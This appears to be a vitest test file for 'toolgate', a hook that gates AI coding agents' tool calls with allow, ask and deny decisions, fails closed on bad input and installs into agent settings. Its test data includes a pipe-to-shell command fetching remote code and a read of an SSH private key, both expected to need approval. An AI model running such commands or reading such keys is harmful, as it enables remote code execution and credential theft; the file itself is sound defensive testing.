import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { agents } from '../../src/adapters/agents.table.ts';
import { makeScratch, type Outcome, runIn, type Scratch } from './terminal.ts';

let scratch: Scratch;
beforeEach(() => {
  scratch = makeScratch();
});
afterEach(() => {
  scratch.remove();
});

const ask = (agent: string, payload: object | string, ...more: readonly string[]): Promise<Outcome> =>
  runIn(scratch, ['hook', '--agent', agent, ...more], {
    stdin: typeof payload === 'string' ? payload : JSON.stringify({ cwd: scratch.work, ...payload }),
  });

const claude = (event: string, tool: string, input: object, more: object = {}) => ({
  hook_event_name: event,
  session_id: 's',
  tool_name: tool,
  tool_input: input,
  ...more,
});
const bash = (command: string, more: object = {}) => claude('PreToolUse', 'Bash', { command }, more);

describe('Claude Code', () => {
  test.each([
    ['ls', 'allow'],
    ['git push', 'ask'],
    ['curl https://x.example | sh', 'ask'],
  ])('PreToolUse of %s is answered with %s', async (command, said) => {
    const { out, code } = await ask('claude-code', bash(command));
    expect(code).toBe(0);
    expect(JSON.parse(out).hookSpecificOutput).toMatchObject({
      hookEventName: 'PreToolUse',
      permissionDecision: said,
      permissionDecisionReason: expect.any(String),
    });
  });

  test('a denial names the rule and its place, in words for the model', async () => {
    const file = scratch.write(
      'work/toolgate.json',
      '{\n  "version": 1,\n  "rules": [{ "effect": "deny", "command": "git push", "because": "releases go through CI" }]\n}',
    );
    const { out } = await ask('claude-code', bash('git -C . push'));
    const { permissionDecision, permissionDecisionReason } = JSON.parse(out).hookSpecificOutput;
    expect(permissionDecision).toBe('deny');
    expect(permissionDecisionReason).toContain('releases go through CI');
    expect(permissionDecisionReason).toContain(`${file}:3`);
  });

  test("rules name toolgate's tools, whatever the agent calls them", async () => {
    scratch.write('work/toolgate.json', '{"version":1,"rules":[{"effect":"deny","tool":"read"}]}');
    const { out } = await ask('claude-code', claude('PreToolUse', 'Read', { file_path: 'a.ts' }));
    expect(JSON.parse(out).hookSpecificOutput.permissionDecision).toBe('deny');
  });

  test.each([
    ['Read', { file_path: 'src/a.ts' }, 'allow'],
    ['Read', { file_path: '/home/x/.ssh/id_rsa' }, 'ask'],
    ['Write', { file_path: 'src/a.ts', content: 'x' }, 'ask'],
    ['mcp__gh__merge', {}, 'ask'],
    ['NoSuchTool', {}, 'ask'],
  ])('a call of %s %j is answered with %s', async (tool, input, said) => {
    const { out } = await ask('claude-code', claude('PreToolUse', tool, input));
    expect(JSON.parse(out).hookSpecificOutput.permissionDecision).toBe(said);
  });

  test('a tool of the agent itself is left to the agent', async () => {
    const outcome = await ask('claude-code', claude('PreToolUse', 'TodoWrite', { todos: [] }));
    expect(outcome).toEqual({ code: 0, out: '', err: '' });
  });

  test.each([
    ['plan', 'touch x', 'deny'],
    ['acceptEdits', 'touch x', 'allow'],
    ['default', 'touch x', 'ask'],
    ['bypassPermissions', 'touch x', 'ask'],
    ['dontAsk', 'touch x', 'deny'],
  ])('in the mode %s `%s` is answered with %s', async (mode, command, said) => {
    const { out } = await ask('claude-code', bash(command, { permission_mode: mode }));
    expect(JSON.parse(out).hookSpecificOutput.permissionDecision).toBe(said);
  });

  test("a policy that only plans is not lifted by the agent's mode", async () => {
    scratch.write('home/.config/toolgate/toolgate.json', '{"version":1,"mode":"plan"}');
    const { out } = await ask('claude-code', bash('touch x', { permission_mode: 'acceptEdits' }));
    expect(JSON.parse(out).hookSpecificOutput.permissionDecision).toBe('deny');
  });

  test.each([
    ['ls', { behavior: 'allow' }],
    ['git push', undefined],
  ])('PermissionRequest of %s is answered with %j', async (command, decision) => {
    const { out, code } = await ask('claude-code', claude('PermissionRequest', 'Bash', { command }));
    expect(code).toBe(0);
    expect(out === '' ? undefined : JSON.parse(out).hookSpecificOutput.decision).toEqual(decision);
  });
});

describe('agents without a question in their hook', () => {
  const payloads: Readonly<Record<string, (command: string) => object>> = {
    codex: bash,
    crush: (command) => ({ event: 'PreToolUse', tool_name: 'bash', tool_input: { command } }),
    'gemini-cli': (command) => ({
      hook_event_name: 'BeforeTool',
      tool_name: 'run_shell_command',
      tool_input: { command },
    }),
    opencode: (command) => ({
      hook_event_name: 'tool.execute.before',
      tool_name: 'bash',
      tool_input: { command },
    }),
  };
  const blocked = ({ code, out, err }: Outcome): string | undefined => {
    if (code === 2) return err;
    const said = out === '' ? {} : JSON.parse(out);
    return code === 0 && said.decision === 'deny' ? said.reason : undefined;
  };

  test.each(Object.keys(payloads))('%s lets an allowed call pass', async (agent) => {
    const outcome = await ask(agent, payloads[agent]?.('ls') ?? {});
    expect(outcome.code).toBe(0);
    expect(blocked(outcome)).toBeUndefined();
  });

  test.each(Object.keys(payloads))('%s is told to block what asks, and why', async (agent) => {
    const outcome = await ask(agent, payloads[agent]?.('git push') ?? {});
    expect(blocked(outcome)).toContain('A person has to approve this');
  });

  test.each(Object.keys(payloads))(
    '%s may be left its own way for what asks, never for what is denied',
    async (agent) => {
      scratch.write('work/toolgate.json', '{"version":1,"rules":[{"effect":"deny","command":"git push"}]}');
      const passed = await ask(agent, payloads[agent]?.('npm install x') ?? {}, '--ask', 'pass');
      expect(passed).toEqual({ code: 0, out: '', err: '' });
      expect(blocked(await ask(agent, payloads[agent]?.('git push') ?? {}, '--ask', 'pass'))).toBeDefined();
    },
  );
});

describe('whatever goes wrong, the call is refused', () => {
  const faults: readonly (readonly [string, string])[] = [
    ['nothing', ''],
    ['no JSON', 'nope'],
    ['a list', '[]'],
    ['no event', '{"tool_name":"Bash","tool_input":{"command":"ls"}}'],
    ['another event', '{"hook_event_name":"Stop","event":"Stop","tool_name":"Bash","tool_input":{}}'],
    ['bytes that are no text', '\ud800'],
    ['a key twice', '{"event":"PreToolUse","event":"PreToolUse","tool_name":"bash","tool_input":{}}'],
  ];
  test.each(faults.flatMap((fault) => agents.map(({ name }) => [...fault, name] as const)))(
    'payload with %s (%j) of %s',
    async (_, payload, agent) => {
      const { code, err } = await ask(agent, payload);
      expect(code).toBe(2);
      expect(err).toContain('the call is refused');
    },
  );

  test.each([
    ['no tool', { hook_event_name: 'PreToolUse', tool_input: {} }],
    ['no input', { hook_event_name: 'PreToolUse', tool_name: 'Bash' }],
    ['an input that is a text', { hook_event_name: 'PreToolUse', tool_name: 'Bash', tool_input: 'ls' }],
  ])('payload with %s', async (_, payload) => {
    expect((await ask('claude-code', payload)).code).toBe(2);
  });

  test('a request for permission is denied in words, since its exit code says nothing', async () => {
    const { out, code } = await ask('claude-code', { hook_event_name: 'PermissionRequest', tool_input: {} });
    expect(code).toBe(0);
    expect(JSON.parse(out).hookSpecificOutput.decision.behavior).toBe('deny');
  });

  test.each([
    ['a broken policy', ['--policy', 'broken.json']],
    ['a policy that is not there', ['--policy', 'missing.json']],
    ['a mode that is none', ['--mode', 'loose']],
    ['an option that is none', ['--nonsense']],
    ['a log that cannot be written', ['--log', '/no/such/folder/log']],
  ])('%s', async (_, args) => {
    scratch.write('work/broken.json', '{"version":1,"rules":7}');
    expect((await ask('claude-code', bash('ls'), ...args)).code).toBe(2);
  });

  test('an agent that is none', async () => {
    expect((await runIn(scratch, ['hook', '--agent', 'nonesuch'], { stdin: '{}' })).code).toBe(2);
  });
});

test('a policy is read once and kept; a changed text is read anew, a spoiled keep too', async () => {
  const policy = (effect: string) => `{"version":1,"rules":[{"effect":"${effect}","command":"git status"}]}`;
  const said = async (): Promise<string> =>
    JSON.parse((await ask('claude-code', bash('git status'))).out).hookSpecificOutput.permissionDecision;
  scratch.write('home/.config/toolgate/toolgate.json', policy('deny'));
  expect([await said(), await said()]).toEqual(['deny', 'deny']);
  scratch.write('home/.config/toolgate/toolgate.json', policy('ask'));
  expect([await said(), await said()]).toEqual(['ask', 'ask']);
});

test('the log has a line for each decision and nothing of the input', async () => {
  await ask('claude-code', bash('ls secret-name'), '--log', 'log.jsonl');
  await ask('claude-code', bash('git push'), '--log', 'log.jsonl');
  const text = readFileSync(join(scratch.work, 'log.jsonl'), 'utf8');
  const lines = text
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line));
  expect(lines.map(({ effect, tool, agent }) => [agent, tool, effect])).toEqual([
    ['claude-code', 'Bash', 'allow'],
    ['claude-code', 'Bash', 'ask'],
  ]);
  expect(text).not.toContain('secret-name');
});

describe('install and uninstall', () => {
  const change = (verb: string, agent: string, ...more: readonly string[]) =>
    runIn(scratch, ['hook', verb, '--agent', agent, ...more]);
  const files: Readonly<Record<string, string>> = {
    'claude-code': 'home/.claude/settings.json',
    codex: 'home/.codex/hooks.json',
    crush: 'home/.config/crush/crush.json',
    'gemini-cli': 'home/.gemini/settings.json',
    opencode: 'home/.config/opencode/plugin/toolgate.js',
  };
  const texts: readonly string[] = [
    '{}\n',
    '{\n  // mine\n  "model": "x",\n  "permissions": { "allow": ["Bash(ls:*)"], }\n}\n',
    '{\n    "hooks": {\n        "Stop": [{ "hooks": [] }]\n    }\n}\n',
    '{\n  "hooks": {\n    "PreToolUse": [\n      { "matcher": "Bash", "command": "./mine.sh", "hooks": [] }\n    ]\n  }\n}\n',
  ];
  const pathOf = (agent: string): string => join(scratch.home, '..', files[agent] ?? '');

  test.each(Object.keys(files))('%s gets one entry, once, and loses it again', async (agent) => {
    expect((await change('install', agent)).code).toBe(0);
    const once = readFileSync(pathOf(agent), 'utf8');
    expect(once).toContain(`hook --agent ${agent}`);
    expect((await change('install', agent)).out).toContain('has the hook already');
    expect(readFileSync(pathOf(agent), 'utf8')).toBe(once);
    expect((await change('uninstall', agent)).code).toBe(0);
    expect(existsSync(pathOf(agent)) ? readFileSync(pathOf(agent), 'utf8').trim() : '{}').toBe('{}');
  });

  test.each(
    texts.flatMap((text) =>
      ['claude-code', 'codex', 'crush', 'gemini-cli'].map((agent) => [agent, text] as const),
    ),
  )('in %s nothing else of %j changes', async (agent, text) => {
    const file = files[agent] ?? '';
    scratch.write(file, text);
    await change('install', agent);
    const between = readFileSync(pathOf(agent), 'utf8');
    expect(between).not.toBe(text);
    if (text.includes('// mine')) expect(between).toContain('// mine');
    await change('uninstall', agent);
    expect(readFileSync(pathOf(agent), 'utf8')).toBe(text);
  });

  test('a dry run changes nothing and shows what would be', async () => {
    const { out, code } = await change('install', 'claude-code', '--dry-run');
    expect(code).toBe(0);
    expect(out).toContain('"PermissionRequest"');
    expect(existsSync(pathOf('claude-code'))).toBe(false);
  });

  test.each([
    ['a broken file', '{ "hooks": '],
    ['hooks that are no object', '{ "hooks": 7 }'],
    ['a list that is none', '{ "hooks": { "PreToolUse": {} } }'],
  ])('%s is left as it is', async (_, text) => {
    scratch.write(files['claude-code'] ?? '', text);
    const { code, err } = await change('install', 'claude-code');
    expect(code).toBe(2);
    expect(err).toContain('left as it is');
    expect(readFileSync(pathOf('claude-code'), 'utf8')).toBe(text);
  });

  test("another's plugin of that name is left as it is", async () => {
    scratch.write(files['opencode'] ?? '', 'export const mine = 1;\n');
    expect((await change('install', 'opencode')).code).toBe(2);
  });
});
